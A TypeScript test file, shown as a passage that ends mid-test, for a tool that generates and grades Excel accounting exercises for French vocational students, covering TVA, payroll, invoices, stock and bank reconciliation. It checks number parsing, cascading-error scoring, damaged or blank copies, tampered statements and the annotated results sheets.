import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync, truncateSync, copyFileSync, mkdirSync, readdirSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { type DemandeExercice } from '../src/app/exercices';
import { ecrireExercice, ouvrirExercice } from '../src/cli/casDUsage';
import { attendusDesReponses } from '../src/app/verification';
import { ecrireCopieAnnotee, verifierCopie } from '../src/cli/casDUsage';
import { remplirClasseur } from '../src/io/exceljs/remplirClasseur';
import { reponsesDuCas, type Attendus } from '../src/sheets/exercices/commun';
import { TYPES_EXERCICE, type TypeExercice } from '../src/exercices/registre';
import { dossierTemporaire, lancer } from './aides/cli';
import { convertirAvecLibreOffice } from './aides/libreoffice';
import { insererLignes, renommerFeuille, saisir } from './aides/modifierCopie';
import { reglagesEnClair, reglagesSaisis } from '../src/sheets/exercices/reglages';
import { degresDuLivret } from '../src/sheets/grilles/gabarit';
import { COLONNES_SUIVI, LARGEURS_SUIVI, lignesSuivi, MASQUEES_SUIVI } from '../src/sheets/verification/suivi';
import { cleDesTests } from './aides/cle';
import { cellulesDuNom } from './aides/classeurs';
import { formuleExterne } from '../src/check/formulesExternes';

const DATE = '2026-11-23';
const d = dossierTemporaire('agora-copies-');
const eleve = { nom: 'MARTIN', prenom: 'Léa', classe: '1re AGOrA B' };
let n = 0;
const fichier = (nom: string) => path.join(d, `${++n}-${nom}`);

async function exercice(type: TypeExercice, demande: Partial<DemandeExercice> = {}): Promise<{ f: string; attendus: Attendus }> {
  const f = fichier(`${type}.xlsx`);
  await ecrireExercice({ type, graine: 5, periode: '2026-03', date: DATE, ...demande }, eleve, f);
  return { f, attendus: attendusDesReponses(await ouvrirExercice(f)) };
}

async function remplir(source: string, valeurs: Attendus): Promise<string> {
  const f = fichier('copie.xlsx');
  writeFileSync(f, await remplirClasseur(source, valeurs));
  return f;
}

const statuts = async (f: string) => Object.fromEntries((await verifierCopie(f, { date: DATE })).rapport.controles.map((c) => [c.nom, c.statut]));
const empreinte = (f: string) => createHash('sha256').update(readFileSync(f)).digest('hex');

/** « 1 234,56 € » with the narrow no-break space a French Excel puts between thousands. */
const francais = (v: number) =>
  `${v < 0 ? '-' : ''}${Math.abs(v)
    .toFixed(2)
    .replace('.', ',')
    .replace(/\B(?=(\d{3})+(?!\d))/g, '\u202f')} €`;
const enTexte = (v: unknown, i: number): unknown => {
  if (typeof v === 'number') return [francais(v), `${v}`, v < 0 ? `(${francais(-v)})` : francais(v).replace(' €', '')][i % 3];
  if (v === 'Oui') return i % 2 ? 'oui' : 'OUI';
  if (v === 'Non') return i % 2 ? 'non' : ' Non ';
  if (Array.isArray(v)) return v.map((x, j) => enTexte(x, i + j));
  return v;
};

describe('ce que les élèves tapent vraiment', () => {
  test('nombres en texte (« 1 234,56 € », « 1234.56 », « (150,00) »), Oui/Non sans casse : tout est juste (TVA et paie)', async () => {
    for (const type of ['tva', 'paie'] as TypeExercice[]) {
      const { f, attendus } = await exercice(type, { aleas: type === 'tva' ? ['encaissement', 'intracommunautaire'] : ['majorations', 'absence', 'prime', 'deductions'] });
      const texte = Object.fromEntries(Object.entries(attendus).map(([k, v], i) => [k, enTexte(v, i)])) as Attendus;
      const s = await statuts(await remplir(f, texte));
      expect(Object.entries(s).filter(([, x]) => x !== 'juste')).toEqual([]);
    }
  });

  test('CA3 en euros entiers : 1 234,40 compte pour 1 234, 1 234,50 pour 1 235, 1 233,50 pour 1 234 (arrondi à l\u2019euro le plus proche)', async () => {
    const { f, attendus } = await exercice('tva', { aleas: ['encaissement'] });
    const l28 = attendus.TVA_L28 as number;
    expect(l28).toBeGreaterThan(0);
    expect((await statuts(await remplir(f, { ...attendus, TVA_L28: l28 + 0.4 }))).TVA_L28).toBe('juste');
    expect((await statuts(await remplir(f, { ...attendus, TVA_L28: l28 + 0.5 }))).TVA_L28).toBe('faux');
    expect((await statuts(await remplir(f, { ...attendus, TVA_L28: l28 - 0.5 }))).TVA_L28).toBe('juste');
    expect((await statuts(await remplir(f, { ...attendus, TVA_L28: l28 - 0.51 }))).TVA_L28).toBe('faux');
  });

  test('bulletin au centime : 0,01 € d\u2019écart est faux ; signe inversé reconnu', async () => {
    const { f, attendus } = await exercice('paie', { aleas: ['absence'] });
    const absence = attendus.PAIE_ABSENCE as number;
    expect(absence).toBeLessThan(0);
    const v = await verifierCopie(await remplir(f, { ...attendus, PAIE_BRUT: (attendus.PAIE_BRUT as number) + 0.01, PAIE_ABSENCE: -absence }), { date: DATE });
    const c = (nom: string) => v.rapport.controles.find((x) => x.nom === nom)!;
    expect([c('PAIE_BRUT').statut, c('PAIE_BRUT').erreurs]).toEqual(['faux', ['arrondi']]);
    expect(c('PAIE_BRUT').diagnostic).toBe('Écart d\u2019un centime : arrondissez au centime le plus proche (0,005 € compte pour 0,01 €), sans tronquer, à chaque étape où la consigne le demande.');
    expect([c('PAIE_ABSENCE').statut, c('PAIE_ABSENCE').erreurs]).toEqual(['faux', ['signe']]);
    expect(c('PAIE_ABSENCE').diagnostic).toMatch(/signe/);
  });

  /** The copy of a student who misread one datum of the case (`lu` changes it), then computed everything right from there. */
  async function malLu<T>(type: TypeExercice, aleas: string[], lu: (e: T) => T) {
    const { f } = await exercice(type, { aleas });
    const x = await ouvrirExercice(f);
    const e = x.entree as T;
    const v = await verifierCopie(await remplir(f, x.spec.attendus(lu(e), x.parametres)), { date: DATE });
    return { f, e, v, par: Object.fromEntries(v.resultat.controles.map((c) => [c.nom, c])) };
  }

  test('erreur en cascade : une quantité mal recopiée fausse la ligne, le reste suit de la saisie de l\u2019élève et compte une fois', async () => {
    type Facture = { lignes: { quantite: number }[] };
    // one more article read on the second line
    const { f, e, v, par } = await malLu<Facture>('facture', ['plusieurs_taux', 'rabais', 'ristourne', 'escompte', 'port'], (e) => ({
      ...e,
      lignes: e.lignes.map((l, i) => (i === 1 ? { ...l, quantite: l.quantite + 1 } : l)),
    }));
    const lignes = par.FAC_Lignes_Montants!;
    // one wrong unit (the second line's gross); its remise and net follow from it (when it has a remise); everything downstream is « cohérent »
    expect([lignes.statut, lignes.points - lignes.reussis]).toEqual(['faux', 1]);
    const remise = (e.lignes[1] as { remise?: number }).remise ? [{ ligne: 1, colonne: 1, juste: false, coherent: true }] : [{ ligne: 1, colonne: 1, juste: true }];
    expect(lignes.marques.filter((m) => m.ligne === 1)).toEqual([{ ligne: 1, colonne: 0, juste: false }, ...remise, { ligne: 1, colonne: 2, juste: false, coherent: true }]);
    expect(lignes.marques.filter((m) => m.ligne !== 1).every((m) => m.juste && m.colonne === null)).toBe(true);
    expect(lignes.aCorriger).toEqual({ ligne: 1, colonne: 0 });
    for (const nom of ['FAC_Pied', 'FAC_Total_HT', 'FAC_Total_TVA', 'FAC_Net_A_Payer']) expect([nom, par[nom]!.statut, par[nom]!.reussis === par[nom]!.points]).toEqual([nom, 'cohérent', true]);
    expect(par.FAC_Net_A_Payer!.diagnostic).toBe(
      'Cohérent avec vos réponses « Total hors taxes », « Total de la TVA » : le calcul est juste à partir de votre saisie ; corrigez d\u2019abord celles-ci, et ce résultat suivra.',
    );
    // the error counts once: every point but the first line's
    expect(v.rapport.total.points - v.rapport.total.reussis).toBe(1);
    // the task pane's link and the note go to the wrong cell itself: the second line's gross
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(f);
    const r = v.rapport.controles.find((c) => c.nom === 'FAC_Lignes_Montants')!;
    expect(r.cellule).toBe(`Travail!${cellulesDuNom(wb, 'FAC_Lignes_Montants')[3]!.adresse}`);
  });

  test('« Résultats » pour l\u2019élève : ce qu\u2019il faut corriger d\u2019abord, la prochaine étape, les degrés en mots, les réponses justes repliées', async () => {
    const { f, attendus } = await exercice('facture', { aleas: ['rabais'] });
    const tva = attendus.FAC_Total_TVA as number;
    const net = attendus.FAC_Net_A_Payer as number;
    // a wrong total of TVA, and the net à payer the student computed from it
    const v = await verifierCopie(await remplir(f, { ...attendus, FAC_Total_TVA: tva + 5, FAC_Net_A_Payer: net + 5 }), { date: DATE });
    const annotee = fichier('resultats.xlsx');
    await ecrireCopieAnnotee(v, annotee);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(annotee);
    const lignes: string[] = [];
    wb.getWorksheet('Résultats')!.eachRow(
      (r) =>
        void lignes.push(
          (r.values as unknown[])
            .filter((x, i, t) => x !== null && x !== undefined && t.indexOf(x) === i)
            .map(String)
            .join(' | '),
        ),
    );
    const cellule = v.rapport.controles.find((c) => c.nom === 'FAC_Total_TVA')!.cellule!;
    const apres = (titre: string) => lignes[lignes.indexOf(titre) + 1];
    expect(apres('À corriger d\u2019abord')).toBe(`1. Total de la TVA (${cellule}) : Relisez la consigne : « total de la TVA (somme des TVA du pied) ».`);
    expect(lignes.find((l) => l.startsWith('Prochaine étape : '))).toMatch(/^Prochaine étape : Corrigez /);
    expect(lignes).toContain(
      'Degrés : 1 — Non maîtrisé : moins de 40 % des réponses justes ; 2 — Insuffisamment maîtrisé : de 40 % à moins de 65 % des réponses justes ; 3 — Maîtrisé : de 65 % à moins de 90 % des réponses justes ; 4 — Bien maîtrisé : 90 % ou plus des réponses justes.',
    );
    // the detail: the answer to correct, the one that follows it, then the right ones on one line
    const detail = lignes.slice(lignes.findIndex((l) => l.startsWith('Réponse | Cellule')) + 1);
    expect(detail.map((l) => l.split(' | ').slice(0, 4).join(' | '))).toEqual([
      `Total de la TVA | ${cellule} | 1.2.2 | faux`,
      expect.stringMatching(/^Net à payer \(TTC\) \| Travail!E\d+ \| 1\.2\.2 \| cohérent$/),
      'Réponses justes (3) | Montants des lignes (brut, remise, net) ; Pied de facture, par taux de TVA ; Total hors taxes',
    ]);
  });

  /** A copy whose answers are right but for `faux`, and `suites` computed by the student from those wrong values. */
  const enCascade: [string, TypeExercice, string[], (a: Attendus, e: unknown) => Attendus, string[], string[]][] = [
    [
      'TVA : une ligne 16 fausse, TD, 28 et 32 qui en découlent',
      'tva',
      [],
      (a) => ({ ...a, TVA_L16: +a.TVA_L16! + 10, TVA_TD: +a.TVA_TD! + 10, TVA_L28: +a.TVA_L28! + 10, TVA_L32: +a.TVA_L32! + 10 }),
      ['TVA_L16'],
      ['TVA_TD', 'TVA_L28', 'TVA_L32'],
    ],
    [
      'frais : un montant retenu faux, son écart et les totaux qui en découlent',
      'frais',
      [],
      (a) => {
        const l = (a.FRA_Controle as number[][]).map((x) => [...x]);
        l[0]![0] = Math.round((l[0]![0]! + 5) * 100) / 100;
        l[0]![1] = Math.round((l[0]![1]! - 5) * 100) / 100;
        return { ...a, FRA_Controle: l, FRA_Total_Rembourse: Math.round((+a.FRA_Total_Rembourse! + 5) * 100) / 100, FRA_Total_Ecart: Math.round((+a.FRA_Total_Ecart! - 5) * 100) / 100 };
      },
      ['FRA_Controle'],
      ['FRA_Total_Rembourse', 'FRA_Total_Ecart'],
    ],
    [
      'relances : une pénalité fausse, le total des pénalités et le montant à réclamer qui en découlent',
      'relances',
      [],
      (a) => {
        const l = (a.REL_Penalites as number[][]).map((x) => [...x]);
        l[0]![1] = Math.round((l[0]![1]! + 1) * 100) / 100;
        return { ...a, REL_Penalites: l, REL_Total_Penalites: Math.round((+a.REL_Total_Penalites! + 1) * 100) / 100, REL_Total_Reclame: Math.round((+a.REL_Total_Reclame! + 1) * 100) / 100 };
      },
      ['REL_Penalites'],
      ['REL_Total_Penalites', 'REL_Total_Reclame'],
    ],
    [
      'règlements : un montant payé ce jour faux, le total du jour qui en découle',
      'reglements',
      ['escompte'],
      (a) => {
        const l = (a.REG_Echeancier as (number | string)[][]).map((x) => [...x]);
        const i = l.findIndex((x) => x[3] === '2026-03-10');
        l[i]![2] = Math.round((+l[i]![2]! + 3) * 100) / 100;
        return { ...a, REG_Echeancier: l, REG_Total_Jour: Math.round((+a.REG_Total_Jour! + 3) * 100) / 100 };
      },
      ['REG_Echeancier'],
      ['REG_Total_Jour'],
    ],
    [
      // case 5 (mars–juin 2026): a crédit de TVA every month; 1 000 € of TVA collectée forgotten in March
      // gives 1 000 € more crédit to carry, the next month's crédit antérieur, and so on to June
      'trésorerie : la TVA collectée de mars fausse ; les crédits de TVA qui en découlent',
      'tresorerie',
      [],
      (a) => {
        const plus = (v: number[], d: number, depuis: number) => v.map((x, i) => (i >= depuis ? Math.round((x + d) * 100) / 100 : x));
        const col = a.TRE_TVA_Collectee as number[];
        expect((a.TRE_TVA_A_Decaisser as number[]).every((x) => x === 0)).toBe(true);
        return {
          ...a,
          TRE_TVA_Collectee: [col[0]! - 1000, ...col.slice(1)],
          TRE_TVA_Credit_Anterieur: plus(a.TRE_TVA_Credit_Anterieur as number[], 1000, 1),
          TRE_TVA_Credit_A_Reporter: plus(a.TRE_TVA_Credit_A_Reporter as number[], 1000, 0),
        };
      },
      ['TRE_TVA_Collectee'],
      ['TRE_TVA_Credit_Anterieur', 'TRE_TVA_Credit_A_Reporter'],
    ],
    [
      'rapprochement : les frais bancaires oubliés dans la colonne du compte 512 (les agios y sont), le solde rapproché calculé sans eux',
      'rapprochement',
      ['frais_bancaires', 'agios'],
      (a) => {
        const lignes = (a.RAP_Lignes_512 as (string | number | null)[][]).filter((l) => !String(l[0]).includes('FRAIS'));
        // solde rapproché = solde avant + débits − crédits of the lines the student kept
        const rapproche = lignes.reduce((s, l) => s + Math.round(Number(l[1] ?? 0) * 100) - Math.round(Number(l[2] ?? 0) * 100), Math.round(Number(a.RAP_Solde_512) * 100));
        return { ...a, RAP_Lignes_512: lignes, RAP_Rapproche_512: rapproche / 100 };
      },
      ['RAP_Lignes_512'],
      ['RAP_Rapproche_512'],
    ],
  ];
  test.each(enCascade)('erreur en cascade, %s : comptée une fois', async (_, type, aleas, fautive, faux, coherents) => {
    const { f, attendus } = await exercice(type, { aleas });
    const x = await ouvrirExercice(f);
    const v = await verifierCopie(await remplir(f, fautive(attendus, x.entree)), { date: DATE });
    const pas = v.resultat.controles.filter((c) => c.statut !== 'juste');
    expect(pas.map((c) => [c.nom, c.statut])).toEqual([...faux.map((n) => [n, 'faux']), ...coherents.map((n) => [n, 'cohérent'])]);
    expect(v.rapport.total.points - v.rapport.total.reussis).toBe(faux.length);
  });

  test('trésorerie : la TVA collectée de mars fausse ; la TVA à décaisser de mars et son paiement en avril, qui en découlent, sont « cohérents »', async () => {
    // case 4 (mars–juin 2026): 894 € of TVA à décaisser in March, paid in April
    const { f, attendus: a } = await exercice('tresorerie', { aleas: [], graine: 4 });
    const [col, aDec] = [a.TRE_TVA_Collectee as number[], a.TRE_TVA_A_Decaisser as number[]];
    expect(aDec[0]).toBe(894);
    const x = await ouvrirExercice(f);
    const k = x.spec.unites!(x.entree, x.parametres)!.TRE_Decaissements!.indexOf('TVA à décaisser');
    const dec = (a.TRE_Decaissements as number[][]).map((l, i) => (i === k ? [l[0]!, 994, ...l.slice(2)] : l));
    expect((a.TRE_Decaissements as number[][])[k]![1]).toBe(894);
    const copie = { ...a, TRE_TVA_Collectee: [col[0]! + 100, ...col.slice(1)], TRE_TVA_A_Decaisser: [994, ...aDec.slice(1)], TRE_Decaissements: dec };
    const v = await verifierCopie(await remplir(f, copie), { date: DATE });
    const pas = v.resultat.controles.filter((c) => c.statut !== 'juste');
    expect(pas.map((c) => [c.nom, c.statut])).toEqual([
      ['TRE_TVA_Collectee', 'faux'],
      ['TRE_TVA_A_Decaisser', 'cohérent'],
      ['TRE_Decaissements', 'cohérent'],
    ]);
    expect(v.rapport.total.points - v.rapport.total.reussis).toBe(1);
  });

  test('congés : une rémunération fausse ; le dixième, la règle et l\u2019indemnité calculés à partir d\u2019elle sont « cohérents »', async () => {
    type Conges = { mois: { brut: number; situation: string }[] };
    // the pay of the first month worked misread
    const { v, par } = await malLu<Conges>('conges', [], (e) => {
      const premier = e.mois.findIndex((m) => m.situation === 'travail');
      return { ...e, mois: e.mois.map((m, i) => (i === premier ? { ...m, brut: m.brut + 300 } : m)) };
    });
    const statut = Object.fromEntries(Object.entries(par).map(([n, c]) => [n, c.statut]));
    expect(statut.CP_Remuneration).toBe('faux');
    expect(statut.CP_Dixieme).toBe('cohérent');
    expect(['juste', 'cohérent']).toContain(statut.CP_Indemnite);
    expect(v.rapport.total.points - v.rapport.total.reussis).toBe(1);
  });

  test('stocks : une livraison mal recopiée ; les lignes suivantes de la fiche CMUP et la commande qui en découlent sont « cohérentes »', async () => {
    type Stocks = { mouvements: { nature: string; quantite: number }[] };
    const livraison = (e: Stocks) => e.mouvements.findIndex((m) => m.nature === 'entree');
    // 10 more units read on the first delivery
    const { e, par } = await malLu<Stocks>('stocks', [], (e) => ({ ...e, mouvements: e.mouvements.map((m, i) => (i === livraison(e) ? { ...m, quantite: m.quantite + 10 } : m)) }));
    const premiere = livraison(e);
    const cmup = par.STK_CMUP!;
    // one wrong line, the delivery's; every later line follows from it
    expect([cmup.statut, cmup.points - cmup.reussis]).toEqual(['faux', 1]);
    expect(cmup.aCorriger?.ligne).toBe(premiere);
    expect(cmup.marques.filter((m) => m.ligne > premiere).every((m) => m.juste || m.coherent)).toBe(true);
    for (const nom of ['STK_Commander', 'STK_Quantite_A_Commander']) expect(['juste', 'cohérent']).toContain(par[nom]!.statut);
    // PEPS: the delivery's line is wrong; after it, each stock (quantity, value) follows from the line before and the typed exit
    const peps = par.STK_PEPS!;
    expect(peps.statut).toBe('faux');
    expect(peps.aCorriger?.ligne).toBe(premiere);
    expect(peps.marques.filter((m) => m.ligne > premiere && (m.colonne ?? 0) > 0).every((m) => m.juste || m.coherent)).toBe(true);
    expect(peps.marques.some((m) => m.ligne > premiere && m.coherent)).toBe(true);
  });

  test('paie : la base de la CSG prise sur tout le brut ne compte qu\u2019aux lignes de base ; montants, totaux et nets qui en découlent sont « cohérents »', async () => {
    const { f, attendus } = await exercice('paie', { aleas: ['majorations', 'prime'] });
    const x = await ouvrirExercice(f);
    const fautive = x.spec.variantes.csg_assiette!(x.entree, x.parametres)!;
    const v = await verifierCopie(await remplir(f, { ...attendus, ...fautive }), { date: DATE });
    const changees = v.resultat.controles.filter((c) => c.statut !== 'juste');
    const faux = changees.filter((c) => c.statut === 'faux').map((c) => c.nom);
    // the mistake sits on the CSG/CRDS bases only (the overtime line's too); the rest follows from them
    expect(faux.length).toBeGreaterThanOrEqual(2);
    expect(faux.filter((n) => !/^PAIE_CSG_.*_BASE$/.test(n))).toEqual([]);
    expect(changees.filter((c) => c.statut === 'cohérent').map((c) => c.nom)).toEqual(
      expect.arrayContaining(['PAIE_CSG_DEDUCTIBLE_SAL', 'PAIE_TOTAL_SAL', 'PAIE_NET_A_PAYER', 'PAIE_NET_IMPOSABLE', 'PAIE_IMPOT', 'PAIE_NET_PAYE']),
    );
    expect(v.rapport.total.points - v.rapport.total.reussis).toBe(faux.length);
    for (const c of changees.filter((c) => c.statut === 'faux')) expect(c.erreurs.map((x) => x.code)).toEqual(['csg_assiette']);
  });

  test('une erreur qu\u2019aucune erreur type n\u2019explique : l\u2019indication cite la consigne qui fixe la réponse', async () => {
    const { f, attendus } = await exercice('paie', { aleas: [] });
    const v = await verifierCopie(await remplir(f, { ...attendus, PAIE_NET_SOCIAL: (attendus.PAIE_NET_SOCIAL as number) + 12.34 }), { date: DATE });
    const c = v.rapport.controles.find((x) => x.nom === 'PAIE_NET_SOCIAL')!;
    expect([c.statut, c.erreurs]).toEqual(['faux', []]);
    expect(c.diagnostic).toBe('Relisez la consigne : « Montant net social = salaire brut − total des cotisations salariales ».');
  });

  test('valeur d\u2019erreur, texte dans un montant, cellule vide, nom supprimé ou #REF! : un verdict chacun, jamais un plantage', async () => {
    const { f, attendus } = await exercice('tva', { aleas: ['encaissement'] });
    const rempli = await remplir(f, attendus);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(rempli);
    const noms = wb.definedNames as unknown as { model: { name: string; ranges: string[] }[] };
    const cellule = (nom: string) =>
      /!\$([A-Z]+)\$(\d+)/
        .exec(noms.model.find((m) => m.name === nom)!.ranges[0]!)!
        .slice(1)
        .join('');
    const travail = wb.getWorksheet('Travail')!;
    travail.getCell(cellule('TVA_L16')).value = { formula: '1/0', result: { error: '#DIV/0!' } } as ExcelJS.CellValue;
    travail.getCell(cellule('TVA_L23')).value = 'environ mille';
    travail.getCell(cellule('TVA_L28')).value = null;
    noms.model = noms.model.filter((m) => m.name !== 'TVA_L32').map((m) => (m.name === 'TVA_A1' ? { ...m, ranges: ['#REF!'] } : m));
    const f2 = fichier('abimee.xlsx');
    await wb.xlsx.writeFile(f2);
    const v = await verifierCopie(f2, { date: DATE });
    const c = (nom: string) => v.rapport.controles.find((x) => x.nom === nom)!;
    expect(c('TVA_L16').statut).toBe('illisible');
    expect(c('TVA_L16').diagnostic).toContain('#DIV/0!');
    expect(c('TVA_L23').statut).toBe('illisible');
    expect(c('TVA_L28').statut).toBe('non renseigné');
    expect(c('TVA_L32').statut).toBe('introuvable');
    expect(c('TVA_A1').statut).toBe('introuvable');
    expect(c('TVA_L32').diagnostic).toContain('TVA_L32');
    expect(v.rapport.controles.filter((x) => x.statut !== 'juste').length).toBe(5);
    expect(v.rapport.competences[0]!.taux).toBeCloseTo((v.rapport.total.points - 5) / v.rapport.total.points, 4);
  });

  test('copie vierge : tout est « non renseigné », la copie n\u2019est pas notée (NE, jamais un degré 1 scellé), et le rapport le dit', async () => {
    const { f } = await exercice('rapprochement');
    const v = await verifierCopie(f, { date: DATE, cle: cleDesTests() });
    expect(new Set(v.rapport.controles.map((c) => c.statut))).toEqual(new Set(['non renseigné']));
    expect(v.rapport.vierge).toBe(true);
    expect(v.rapport.competences[0]).toMatchObject({ taux: null, niveau: null });
    expect(v.rapport.total.taux).toBeNull();
    // the evidence row the annotated copy would seal: NE, with the reason
    const [ligne] = lignesSuivi(v.rapport, 'copie.xlsx');
    expect([ligne![6], ligne![7], ligne![8], ligne![11]]).toEqual([null, 'NE', 'Non évalué', 'Copie vide : non évaluée']);
    const cli = await lancer(['verifier', f]);
    expect(cli.out).toContain('Copie vide : aucune réponse n\u2019est saisie ; chaque compétence est « NE » (non évalué), aucun degré n\u2019est retenu.');
    expect(v.rapport.eleve).toBe('MARTIN Léa');
    expect(v.rapport.classe).toBe('1re AGOrA B');
  });
});

describe('énoncé modifié, cas de l\u2019enseignant', () => {
  test('une donnée de l\u2019énoncé changée : « énoncé modifié », le bloc nommé, la copie n\u2019est pas notée', async () => {
    const { f, attendus } = await exercice('tva', { aleas: ['encaissement'] });
    const rempli = await remplir(f, attendus);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(rempli);
    const ref = (wb.definedNames as unknown as { model: { name: string; ranges: string[] }[] }).model.find((m) => m.name === 'TVA_Credit_Anterieur')!.ranges[0]!;
    const adresse = /!\$([A-Z]+)\$(\d+)/.exec(ref)!.slice(1).join('');
    const f2 = fichier('triche.xlsx');
    await saisir(rempli, f2, 'Énoncé', adresse, 800);
    const v = await verifierCopie(f2, { date: DATE });
    expect(v.rapport.enonceModifie).toBe(true);
    expect(v.rapport.blocsModifies).toEqual(['TVA_Situation']);
    expect(v.rapport.competences.map((c) => [c.taux, c.niveau])).toEqual([[null, null]]);
    expect(v.rapport.total.taux).toBeNull();
  });

  test('crédit antérieur oublié (cas de l\u2019enseignant avec un crédit) : reconnu sur la ligne 22 ; les lignes 23 et suivantes en découlent et ne comptent pas une seconde fois', async () => {
    const cas = path.join(d, 'cas-credit.json');
    writeFileSync(
      cas,
      JSON.stringify({
        periode: '2026-03',
        creditAnterieur: 300,
        operations: [
          { piece: 'FV-1', sens: 'vente', date: '2026-03-04', tiers: 'Client A', libelle: 'Marchandises', nature: 'bien', zone: 'france', ht: 5000, taux: 20 },
          { piece: 'FA-1', sens: 'achat', date: '2026-03-09', tiers: 'Fournisseur B', libelle: 'Marchandises', nature: 'bien', zone: 'france', ht: 2000, taux: 20 },
        ],
      }),
    );
    const { f, attendus } = await exercice('tva', { donnees: cas, graine: undefined });
    expect([attendus.TVA_L22, attendus.TVA_L23, attendus.TVA_L28]).toEqual([300, 700, 300]);
    const v = await verifierCopie(await remplir(f, { ...attendus, TVA_L22: 0, TVA_L23: 400, TVA_TD: 600, TVA_L28: 600, TVA_L32: 600 }), { date: DATE });
    const fausses = v.rapport.controles.filter((c) => c.statut !== 'juste');
    expect(fausses.map((c) => [c.nom, c.statut, c.erreurs])).toEqual([
      ['TVA_L22', 'faux', ['credit_anterieur']],
      ['TVA_L23', 'cohérent', []],
      ['TVA_TD', 'cohérent', []],
      ['TVA_L28', 'cohérent', []],
      ['TVA_L32', 'cohérent', []],
    ]);
    expect(v.rapport.total.points - v.rapport.total.reussis).toBe(1);
  });
});

describe('la copie telle qu\u2019elle revient', () => {
  // every exercise: a copy saved and reopened still finds every answer name (OfficeDev/office-js#4772 saw names broken after a reopen)
  test.each(TYPES_EXERCICE)(
    '%s : lignes insérées au-dessus des réponses, feuille renommée, copie réenregistrée par LibreOffice : mêmes verdicts',
    async (type) => {
      const { f, attendus } = await exercice(
        type,
        type === 'tva'
          ? { aleas: ['immobilisation'] }
          : type === 'paie'
            ? { aleas: ['majorations'] }
            : type === 'facture'
              ? { aleas: ['escompte', 'retour'] }
              : type === 'reglements'
                ? { aleas: ['fin_de_mois', 'escompte'] }
                : type === 'conges'
                  ? { periode: '2026-08', aleas: ['sans_solde'] }
                  : type === 'frais'
                    ? { periode: '2024-10', aleas: ['depassement'] }
                    : {},
      );
      const x = await ouvrirExercice(f);
      const variante = Object.entries(x.spec.variantes)
        .map(([, fn]) => fn(x.entree, x.parametres))
        .find((a) => a && Object.keys(a).some((k) => k in attendus && JSON.stringify(a[k]) !== JSON.stringify(attendus[k])))!;
      const nom = Object.keys(variante).find((k) => k in attendus && JSON.stringify(variante[k]) !== JSON.stringify(attendus[k]))!;
      const rempli = await remplir(f, { ...attendus, [nom]: variante[nom]! });
      const reference = await statuts(rempli);
      expect(Object.values(reference).filter((s) => s !== 'juste').length).toBeGreaterThan(0);
      const inseree = fichier('inseree.xlsx');
      await insererLignes(rempli, inseree, 'Travail', 4, 3);
      const renommee = fichier('renommee.xlsx');
      await renommerFeuille(inseree, renommee, 'Travail', 'Ma copie');
      const v = await verifierCopie(renommee, { date: DATE });
      expect(Object.fromEntries(v.rapport.controles.map((c) => [c.nom, c.statut]))).toEqual(reference);
      expect(v.rapport.controles.every((c) => c.cellule === null || c.cellule.startsWith('Ma copie!'))).toBe(true);
      const lo = convertirAvecLibreOffice(renommee, 'xlsx', dossierTemporaire('agora-lo-copie-'));
      expect(await statuts(lo)).toEqual(reference);
    },
    300_000,
  );
});

describe('copie annotée', () => {
  test('l\u2019original intact ; « Résultats », couleurs, « Suivi des compétences » (deux vérifications : deux lignes) ; LibreOffice l\u2019ouvre', async () => {
    const { f, attendus } = await exercice('paie', { aleas: ['majorations'] });
    const rempli = await remplir(f, { ...attendus, PAIE_BRUT: 1 });
    const avant = empreinte(rempli);
    const v = await verifierCopie(rempli, { date: DATE });
    const annotee = fichier('annotee.xlsx');
    await ecrireCopieAnnotee(v, annotee);
    expect(empreinte(rempli)).toBe(avant);
    await expect(ecrireCopieAnnotee(v, rempli)).rejects.toThrow(/ne peut pas remplacer/);
    const v2 = await verifierCopie(annotee, { date: '2026-11-24' });
    const deux = fichier('annotee2.xlsx');
    await ecrireCopieAnnotee(v2, deux);
    const lo = convertirAvecLibreOffice(deux, 'xlsx', dossierTemporaire('agora-lo-annotee-'));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(lo);
    const resultats = wb.getWorksheet('Résultats')!;
    const textes: string[] = [];
    resultats.eachRow((r) => r.eachCell((c) => void textes.push(String(c.value))));
    expect(textes.join('\n')).toContain('Résultats de la vérification — Bulletin de paie du mois');
    expect(textes.join('\n')).toContain('Élève : MARTIN Léa (1re AGOrA B)');
    const suivi = wb.getWorksheet('Suivi des compétences')!;
    // a title above the header; the footer of the exercise's other sheets on both
    expect(String(suivi.getCell('A1').value)).toBe('Suivi des compétences — MARTIN Léa — Bulletin de paie du mois');
    for (const ws of [suivi, resultats]) expect(ws.headerFooter.oddFooter).toBe('&L&8MARTIN Léa — 1re AGOrA B&C&8Bulletin de paie du mois&R&8Page &P / &N');
    const lignes = suivi
      .getSheetValues()
      .slice(3)
      .map((l) => (l as unknown[]).slice(1));
    // one wrong answer out of n on the bulletin (3.2.4): (n − 1) / n, at least 90 %, degree 4; the écriture (3.2.5) is right
    const paie = v.rapport.competences.find((c) => c.code === '3.2.4')!;
    expect(paie.taux).toBeCloseTo((paie.points - 1) / paie.points, 4);
    expect(paie.taux!).toBeLessThan(1);
    expect(lignes.map((l) => [(l[0] as Date).toISOString().slice(0, 10), l[4], l[7], l[10]])).toEqual([
      ['2026-11-23', '3.2.4', 4, path.basename(rempli)],
      ['2026-11-23', '3.2.5', 4, path.basename(rempli)],
      ['2026-11-24', '3.2.4', 4, path.basename(annotee)],
      ['2026-11-24', '3.2.5', 4, path.basename(annotee)],
    ]);
    // Readable when printed: widths of the layout, technical columns hidden, bordered wrapped rows as tall as their text
    expect(suivi.columns.map((c) => [Math.round(c.width ?? 0), !!c.hidden])).toEqual(LARGEURS_SUIVI.map((w, j) => [w, MASQUEES_SUIVI.includes(j)]));
    expect(COLONNES_SUIVI.filter((_, j) => MASQUEES_SUIVI.includes(j))).toEqual(['Modèle', 'Sceau']);
    const critere = suivi.getCell(3, COLONNES_SUIVI.indexOf('Critère') + 1);
    expect([critere.alignment?.wrapText, critere.border?.top?.style]).toEqual([true, 'thin']);
    // short values centred: a case number never runs into the compétence code beside it
    expect([suivi.getCell(3, 4).alignment?.horizontal, suivi.getCell(3, 5).alignment?.horizontal]).toEqual(['center', 'center']);
